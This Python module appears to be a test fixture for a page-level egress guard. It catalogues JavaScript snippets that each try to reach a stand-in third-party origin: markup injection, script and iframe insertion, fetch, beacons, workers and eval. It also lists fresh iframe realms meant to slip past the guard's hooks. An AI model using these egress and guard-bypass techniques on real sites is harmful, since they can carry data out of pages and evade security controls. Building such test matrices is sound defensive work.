"""Everything a script can try to reach somebody with: name → code, where `t` is the other's origin
and `w` the window whose functions it takes, its own or a fresh one.

Each leads to `{t}/{name}`, so that the log of the third party tells which one got through.
"""

from __future__ import annotations

_MARKUP = {
    "inner": "d.innerHTML = '<img src={u}>'",
    "outer": "d.append(made('p')); d.lastChild.outerHTML = '<img src={u}>'",
    "adjacent": "d.insertAdjacentHTML('beforeend', '<img src={u}>')",
    "unsafe-html": "d.setHTMLUnsafe('<img src={u}>')",
    "contextual": "const r = doc.createRange(); r.selectNode(d);"
    " d.append(r.createContextualFragment('<img src={u}>'))",
    "nested": "d.innerHTML = '<div><picture><source srcset={u}><img></picture></div>'",
    "markup-style": "d.innerHTML = '<p style=\"background:url({u})\">x</p>'",
    "markup-frame": "d.innerHTML = '<iframe src={u}></iframe>'",
    "markup-srcdoc": "d.innerHTML = '<iframe srcdoc=\"<img src={u}>\"></iframe>'",
    "markup-svg": "d.innerHTML = '<svg><image href={u} width=9 height=9 /></svg>'",
    "parsed": "const p = new w.DOMParser().parseFromString('<img src={u}>', 'text/html');"
    " d.append(p.body.firstChild)",
    "shadow": "const h = made('div'); d.append(h); h.attachShadow({mode: 'open'}).innerHTML ="
    " '<img src={u}>'",
    "video": "d.innerHTML = '<video src={u} preload=auto></video>'",
    "poster": "d.innerHTML = '<video poster={u}></video>'",
    "background": "d.innerHTML = '<table background={u}><tr><td>x</table>'",
    "style-text": "const s = made('style'); s.textContent = '@import \"{u}\"'; d.append(s)",
}
_ELEMENTS = {
    "image": "new w.Image().src = '{u}'",
    "image-url-object": "new w.Image().src = new URL('{u}')",
    "srcset": "new w.Image().srcset = '{u} 1x'",
    "set-attribute": "made('img').setAttribute('src', '{u}')",
    "set-attribute-upper": "made('img').setAttribute('SRC', '{u}')",
    "set-attribute-ns": "made('img').setAttributeNS(null, 'src', '{u}')",
    "attribute-node": "const a = doc.createAttribute('src'); a.value = '{u}';"
    " made('img').setAttributeNode(a)",
    "attribute-item": "const a = doc.createAttribute('src'); a.value = '{u}';"
    " made('img').attributes.setNamedItem(a)",
    "attribute-value": "const i = made('img'); i.setAttribute('src', '/own.gif');"
    " i.getAttributeNode('src').value = '{u}'",
    "attribute-text": "const i = made('img'); i.setAttribute('src', '/own.gif');"
    " i.getAttributeNode('src').nodeValue = '{u}'",
    "script": "const s = made('script'); s.src = '{u}'; d.append(s)",
    "script-module": "const s = made('script'); s.type = 'module'; s.src = '{u}'; d.append(s)",
    "script-inline": "const s = made('script'); s.textContent = \"new Image().src = '{u}'\"; d.append(s)",
    "frame": "const f = made('iframe'); f.src = '{u}'; d.append(f)",
    "frame-srcdoc": "const f = made('iframe'); f.srcdoc = '<img src={u}>'; d.append(f)",
    "frame-data": "const f = made('iframe'); f.src = 'data:text/html,<img src={u}>'; d.append(f)",
    "frame-location": "const f = made('iframe'); d.append(f); f.contentWindow.location = '{u}'",
    "frame-written": "const f = made('iframe'); d.append(f);"
    " f.contentDocument.write('<img src={u}>')",
    "object": "const o = made('object'); o.data = '{u}'; d.append(o)",
    "embed": "const e = made('embed'); e.src = '{u}'; d.append(e)",
    "link-style": "const l = made('link'); l.rel = 'stylesheet'; l.href = '{u}'; d.append(l)",
    "link-late-rel": "const l = made('link'); l.href = '{u}'; d.append(l); l.rel = 'stylesheet'",
    "link-rel-list": "const l = made('link'); l.href = '{u}'; d.append(l);"
    " l.relList.add('stylesheet')",
    "link-rel-value": "const l = made('link'); l.href = '{u}'; d.append(l);"
    " l.relList.value = 'stylesheet'",
    "link-prefetch": "const l = made('link'); l.rel = 'prefetch'; l.href = '{u}'; d.append(l)",
    "link-preload": "const l = made('link'); l.rel = 'preload'; l.as = 'image'; l.href = '{u}';"
    " d.append(l)",
    "link-image-srcset": "const l = made('link'); l.rel = 'preload'; l.as = 'image';"
    " l.imageSrcset = '{u} 1x'; d.append(l)",
    "link-module": "const l = made('link'); l.rel = 'modulepreload'; l.href = '{u}'; d.append(l)",
    "link-icon": "const l = made('link'); l.rel = 'icon'; l.href = '{u}'; doc.head.append(l)",
    "audio": "new w.Audio('{u}').load()",
    "input": "const i = made('input'); i.type = 'image'; i.src = '{u}'; d.append(i)",
    "svg-image": "const i = doc.createElementNS('http://www.w3.org/2000/svg', 'image');"
    " const s = doc.createElementNS('http://www.w3.org/2000/svg', 'svg');"
    " i.setAttribute('href', '{u}'); s.append(i); d.append(s)",
    "svg-base-val": "const i = doc.createElementNS('http://www.w3.org/2000/svg', 'image');"
    " const s = doc.createElementNS('http://www.w3.org/2000/svg', 'svg');"
    " s.append(i); d.append(s); i.href.baseVal = '{u}'",
    "style-property": "const p = made('p'); p.textContent = 'x'; d.append(p);"
    " p.style.backgroundImage = 'url({u})'",
    "style-sheet": "const s = new w.CSSStyleSheet(); s.replaceSync('body { background: url({u}) }');"
    " doc.adoptedStyleSheets = [s]",
    "font-face": "new w.FontFace('f', 'url({u})').load().catch(() => {})",
    "ping": "const a = made('a'); a.href = '#x'; a.ping = '{u}'; d.append(a); a.click()",
    "speculation": "const s = made('script'); s.type = 'speculationrules'; s.textContent ="
    " JSON.stringify({ prefetch: [{ source: 'list', urls: ['{u}'], eagerness: 'immediate' }] });"
    " doc.head.append(s)",
}
_REQUESTS = {
    "fetch": "w.fetch('{u}', { mode: 'no-cors' }).catch(() => {})",
    "fetch-request": "w.fetch(new w.Request('{u}', { mode: 'no-cors' })).catch(() => {})",
    "fetch-url-object": "w.fetch(new URL('{u}'), { mode: 'no-cors' }).catch(() => {})",
    "fetch-keepalive": "w.fetch('{u}', { mode: 'no-cors', keepalive: true }).catch(() => {})",
    "xhr": "const x = new w.XMLHttpRequest(); x.open('GET', '{u}'); x.send()",
    "beacon": "w.navigator.sendBeacon('{u}')",
    "event-source": "new w.EventSource('{u}')",
    "web-socket": "new w.WebSocket('{u}'.replace('http', 'ws'))",
    "import": "import('{u}').catch(() => {})",
    "worker-blob": "new w.Worker(URL.createObjectURL(new Blob("
    "[\"fetch('{u}', { mode: 'no-cors' }).catch(() => {})\"])))",
    "worker-import": "new w.Worker(URL.createObjectURL(new Blob([\"importScripts('{u}')\"])))",
    "worker-own": "new w.Worker('/worker-that-fetches.js?' + encodeURIComponent('{u}'))",
    "shared-worker": "new w.SharedWorker('/worker-that-fetches.js?' + encodeURIComponent('{u}'))",
    "worklet": "w.CSS.paintWorklet?.addModule('{u}').catch(() => {})",
}
_LATER = {
    "written": "const f = made('iframe'); d.append(f); const i = f.contentDocument;"
    " i.open(); i.write('<scr'); i.write('ipt src={u}></scr'); i.write('ipt>'); i.close()",
    "timer-text": "w.setTimeout(\"new Image().src = '{u}'\")",
    "evaluated": "w.eval(\"new Image().src = '{u}'\")",
    "function": "new w.Function(\"new Image().src = '{u}'\")()",
    "handler": "const b = made('b'); b.setAttribute('onclick', \"new Image().src = '{u}'\");"
    " d.append(b); b.click()",
    "javascript-address": "const f = made('iframe'); f.src = \"javascript:void(new Image().src = '{u}')\";"
    " d.append(f)",
}

ATTEMPTS = {**_MARKUP, **_ELEMENTS, **_REQUESTS, **_LATER}

#: what no policy stops; in a realm that the guard has not seen it gets out
BEYOND_ANY_POLICY = {"speculation"}
#: what only the policy stops (README, "What it does not do yet")
BEYOND_THE_GUARD = {
    *("attribute-item", "attribute-text", "attribute-value", "svg-base-val"),
    *("link-rel-list", "link-rel-value", "font-face", "import", "worklet"),
    *("style-text", "style-property", "style-sheet", "markup-style"),
    *("frame-data", "frame-location", "parsed", "written"),
    *("worker-blob", "worker-import", "worker-own", "shared-worker"),
}

_ONE = """
  try {{
    const d = doc.body.appendChild(doc.createElement("div"));
    {code};
  }} catch (error) {{ failed.push([{name!r}, String(error)]); }}
"""
_ALL = """(w) => {{
  const doc = w.document;
  const made = (name) => doc.createElement(name);
  const failed = [];
  {all}
  return failed;
}}"""


def attempts(origin: str) -> str:
    """A function that tries them all with the functions of a window; gives what threw."""
    ones = (
        _ONE.format(name=name, code=code.replace("{u}", f"{origin}/{name}"))
        for name, code in ATTEMPTS.items()
    )
    return _ALL.format(all="".join(ones))


#: a window with functions that no guard of the page has seen
FRESH_REALMS = {
    "own": "window",
    "frame": "document.body.appendChild(document.createElement('iframe')).contentWindow",
    "frame-by-index": "(document.body.append(document.createElement('iframe')),"
    " window[window.length - 1])",
    "frame-by-markup": "(document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'),"
    " window[window.length - 1])",
    "frame-srcdoc-parent": "(document.body.insertAdjacentHTML('beforeend',"
    " '<iframe srcdoc=\"<p>x\"></iframe>'), window[window.length - 1])",
}
